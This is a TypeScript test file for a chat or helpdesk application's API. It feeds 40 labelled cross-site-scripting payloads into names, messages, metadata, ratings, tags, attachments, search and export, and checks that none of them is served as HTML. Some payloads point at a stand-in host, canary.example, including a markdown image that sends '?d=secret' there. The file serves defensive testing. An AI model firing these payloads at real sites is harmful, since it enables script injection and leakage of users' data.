import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildTestApp, type TestApp } from '../../testing/build-test-app.ts';
import { newClientId, openShop, type ChatMessage, type Shop } from '../../testing/chat.ts';
import { postFile } from '../../testing/multipart.ts';
import type { Reply } from '../../testing/test-client.ts';

let app: TestApp;
let shop: Shop;
beforeAll(async () => {
  app = await buildTestApp();
  shop = await openShop(app);
});
afterAll(() => app.close());

/** Known attacks: https://owasp.org/www-community/xss-filter-evasion-cheatsheet */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](http://canary.example/?d=secret)',
  '[x](data:text/html,<script>alert(1)</script>)',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href="http://canary.example">',
  '<style>@import "http://canary.example";</style>',
  '<meta http-equiv=refresh content="0;url=http://canary.example">',
  '<base href="http://canary.example">',
  '<form action="http://canary.example"><button>x</form>',
  '"><script>alert(1)</script>',
  '\'"--><script>alert(1)</script>',
  "';alert(1);//",
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--<script>-->alert(1)',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)',
  '<scr\u200bipt>alert(1)',
  '＜script＞alert(1)',
  '<plaintext>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const isNotHtml = ({ headers, text, status }: Reply) =>
  status < 500 &&
  !String(headers['content-type'] ?? '').includes('html') &&
  !text.startsWith('<') &&
  headers['x-content-type-options'] === 'nosniff';

test('40 kinds of active markup stay text everywhere: returned unchanged, never as a page', async () => {
  expect(PAYLOADS).toHaveLength(40);
  const { browser } = shop.staff;
  for (const [n, payload] of PAYLOADS.entries()) {
    const visitor = shop.visitor();
    const replies = [await visitor.start({ name: payload })];
    const id = visitor.conversationId;
    const path = `/conversations/${id}`;
    const tag = `${n} ${payload}`.slice(0, 40).trim();
    replies.push(
      await visitor.say(payload),
      await visitor.post(`/chat${path}/metadata`, { items: [{ name: payload.slice(0, 100), value: payload }] }),
      await visitor.post(`/chat${path}/rating`, { score: 1, comment: payload }),
      await browser.post(`${path}/messages/send`, { text: payload, client_id: newClientId() }),
      await browser.post(`${path}/tags`, { tags: [tag] }),
    );
    const file = await postFile(
      visitor,
      `/chat${path}/attachments`,
      `${payload.replaceAll('"', '')}.txt`,
      `Text: ${payload}`,
    );
    const download = await browser.get(`/attachments/${String(file.body.id)}`);
    const [conversation, messages, transcript, search] = [
      await browser.get(path),
      await browser.get(`${path}/messages`),
      await visitor.get(`/chat${path}/transcript`),
      await browser.get(`/conversations?search=${encodeURIComponent(payload)}`),
    ];
    const { customer } = conversation.body as { customer: { id: number } };
    const exported = await browser.get(`/customers/${customer.id}/export`);
    replies.push(file, conversation, messages, transcript, search, exported);
    expect([payload, replies.filter((reply) => !isNotHtml(reply)).map(({ status, text }) => [status, text])]).toEqual([
      payload,
      [],
    ]);
    expect(conversation.body).toMatchObject({
      customer: { name: payload },
      metadata: [{ name: payload.slice(0, 100), value: payload }],
      rating: { comment: payload },
      tags: [tag],
    });
    const { data } = messages.body as { data: ChatMessage[] };
    expect(data.map(({ text }) => text)).toEqual([payload, payload]);
    expect(transcript.text).toContain(payload);
    expect(exported.text).toContain(JSON.stringify(payload));
    expect(download.headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'x-content-type-options': 'nosniff',
      'content-security-policy': expect.stringContaining('sandbox'),
      'content-disposition': expect.stringMatching(/^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w%.!~-]+$/),
    });
    expect(String(file.body.name)).not.toMatch(/[<>":|?*\p{Cc}]/u);
  }
});

test('a refusal repeats nothing of what was sent', async () => {
  for (const payload of PAYLOADS) {
    const replies = [
      await shop.staff.browser.get(`/conversations?status=${encodeURIComponent(payload)}`),
      await shop.staff.browser.get(`/conversations/${encodeURIComponent(payload)}`),
      await shop.staff.browser.get(`/${encodeURIComponent(payload)}`),
      await shop.staff.browser.post('/channels', { type: payload, name: payload }),
      await shop.visitor().post('/chat/conversations/start', { locale: payload }),
    ];
    for (const reply of replies) {
      expect(reply.status).toBeGreaterThanOrEqual(400);
      expect([payload, isNotHtml(reply), reply.text.includes(payload)]).toEqual([payload, true, false]);
    }
  }
});
